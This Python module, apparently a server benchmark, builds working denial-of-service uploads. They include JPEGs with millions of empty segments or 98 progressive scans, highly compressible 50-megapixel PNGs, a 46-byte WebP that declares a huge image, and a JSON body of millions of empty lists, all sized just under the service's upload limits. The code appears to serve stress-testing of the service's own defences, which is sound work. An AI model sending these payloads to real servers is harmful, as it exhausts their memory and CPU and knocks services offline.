"""Requests that are expensive for the server, and small or plain for the client that sends them.

They do no harm to a person who opens them: each holds a picture of one colour, or none at all.
"""

import struct
import zlib
from collections.abc import Iterator

from benchmarks.closed_loop import Post

PIXELS = 50_000_000  # MAX_MEGAPIXELS by default: what is larger is refused by its header
UPLOAD = 32_000_000  # bytes, just below MAX_UPLOAD_MB
Scan = tuple[int, int, int, int]  # first and last coefficient, Ah and Al: T.81, B.2.3
FORM = "multipart/form-data; boundary=x"


def attacks() -> Iterator[tuple[str, Post]]:
    """Yield the name of each attack, and the request that its clients send."""
    webp_at_limit = webp(16_383, PIXELS // 16_383)
    yield "JPEG of 8 million empty segments", (jpeg_of_segments(UPLOAD // 4), "image/jpeg")
    for name, script in (("99 legal scans", LEGAL_SCRIPT), ("99 repeated scans", REPEATED_SCRIPT)):
        yield f"JPEG of {name}", (jpeg_of_scans(8000, 6250, script), "image/jpeg")
    yield "PNG of 50 MP in RGB", (png(8000, 6250, 2), "image/png")
    yield "PNG of 50 MP in grey with alpha", (png(8000, 6250, 4), "image/png")
    yield "PNG of 1 x 50,000,000", (png(1, PIXELS, 2), "image/png")
    yield "JSON without a picture", (json_of_lists(30_000_000), "application/json")
    yield "form of 16 large WebPs", (form([webp_at_limit] * 16), FORM)
    yield "WebP of 46 bytes", (webp_at_limit, "image/webp")


def segment(marker: int, data: bytes = b"") -> bytes:
    """Return a marker segment of a JPEG. Source: ITU-T T.81, B.1.1.4."""
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def jpeg_of_segments(count: int) -> bytes:
    """Return a grey JPEG of 8 x 8 after so many empty APP0 segments, of 4 bytes each."""
    return b"\xff\xd8" + segment(0xE0) * count + jpeg_of_scans(8, 8, [])[2:]


def jpeg_of_scans(width: int, height: int, script: list[Scan]) -> bytes:
    """Return a progressive JPEG in grey: a scan of DC, then scans of AC as in the script.

    All coefficients are zero: a block costs one bit in the DC scan, and next to none in the others,
    where a run of blocks without coefficients (EOBn) covers up to 32,767 of them. Source: ITU-T
    T.81, B.2 (segments), G.1.2 (progressive entropy coding).
    """
    blocks = -(-width // 8) * -(-height // 8)
    runs = end_of_band_runs(blocks)
    quantization = segment(0xDB, bytes((0, *[1] * 64)))
    frame = segment(0xC2, struct.pack(">BHHBBBB", 8, height, width, 1, 1, 0x11, 0))
    tables = huffman_table(0x00, [0]) + huffman_table(0x10, EOB)
    scans = [scan((0, 0, 0, 0), "0" * blocks), *(scan(each, runs) for each in script)]
    return b"\xff\xd8" + quantization + frame + tables + b"".join(scans) + b"\xff\xd9"


# Each of 7 bands bit by bit, from the 14th, as T.81 allows: 98 scans.
LEGAL_SCRIPT = [
    (first, first + 8, low + 1 if low < 13 else 0, low)
    for low in range(13, -1, -1)
    for first in range(1, 64, 9)
]
# The last bit of all coefficients again and again: not legal, but libjpeg only warns.
REPEATED_SCRIPT = [(1, 63, 0, 1), *[(1, 63, 1, 0)] * 97]
EOB = [n << 4 for n in range(15)]  # the symbols EOB0 to EOB14: 2**n blocks and more have ended


def huffman_table(class_and_id: int, symbols: list[int]) -> bytes:
    """Return a DHT segment whose codes are all equally long, but for one symbol: a single bit.

    T.81, B.2.4.2; a code of ones alone is not allowed, so 15 symbols have 4 bits.
    """
    length = 1 if len(symbols) == 1 else 4
    counts = [len(symbols) if each == length else 0 for each in range(1, 17)]
    return segment(0xC4, bytes((class_and_id, *counts, *symbols)))


def end_of_band_runs(blocks: int) -> str:
    """Return the bits that end the band in so many blocks: EOBn and the n bits of its run."""
    bits = ""
    while blocks:
        n = min(blocks.bit_length() - 1, 14)
        run = min(blocks, 2 ** (n + 1) - 1)
        bits += f"{n:04b}" + (f"{run - 2**n:0{n}b}" if n else "")
        blocks -= run
    return bits


def scan(band_and_bits: Scan, bits: str) -> bytes:
    """Return a scan of the one component: a SOS segment, and its data."""
    first, last, high, low = band_and_bits
    padded = bits + "1" * (-len(bits) % 8)
    data = int(padded, 2).to_bytes(len(padded) // 8)
    header = segment(0xDA, bytes((1, 1, 0x00, first, last, high << 4 | low)))
    return header + data.replace(b"\xff", b"\xff\x00")


def png(width: int, height: int, colour: int) -> bytes:
    """Return a black PNG of 8 bits a channel; `colour` is the specification's colour type.

    Source: the PNG specification, section 11.2.1 (2: RGB, 4: grey with alpha).
    """
    channels = {2: 3, 4: 2}[colour]
    row, compressor = bytes(1 + width * channels), zlib.compressobj(9)
    rows = max(1, 1_000_000 // len(row))  # as many at a time
    data = b"".join(
        compressor.compress(row * min(rows, height - start)) for start in range(0, height, rows)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    chunks = {b"IHDR": header, b"IDAT": data + compressor.flush(), b"IEND": b""}
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*each) for each in chunks.items())


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG. Source: the PNG specification, section 5.3."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def webp(width: int, height: int) -> bytes:
    """Return a WebP of 46 bytes, black, at most 16,383 x 16,383.

    Source: the WebP container specification (VP8X), and that of the lossless bitstream: sizes of 14
    bits, three bits for no transform, no colour cache and no meta prefix codes, then five codes of
    one symbol each, which takes no bits: the pixels are not there.
    """
    code = 0b0001  # simple, one symbol, of one bit, 0; read from the lowest bit
    bits = (width - 1) | (height - 1) << 14
    for number in range(5):
        bits |= code << (35 + 4 * number)
    lossless = b"\x2f" + bits.to_bytes(7, "little")
    extended = bytes(4) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    chunks = webp_chunk(b"VP8X", extended) + webp_chunk(b"VP8L", lossless)
    return webp_chunk(b"RIFF", b"WEBP" + chunks)


def webp_chunk(kind: bytes, data: bytes) -> bytes:
    """Return a RIFF chunk of an even number of bytes."""
    return kind + struct.pack("<I", len(data)) + data


def json_of_lists(size: int) -> bytes:
    """Return a JSON object of about so many bytes: empty lists, each 60 in memory."""
    return b'{"a":[' + b"[]," * (size // 3) + b"[]]}"


def form(pictures: list[bytes]) -> bytes:
    """Return a multipart form, of FORM's boundary, with a part for each picture."""
    head = b'--x\r\nContent-Disposition: form-data; name="image"\r\n\r\n'
    return b"".join(head + picture + b"\r\n" for picture in pictures) + b"--x--\r\n"
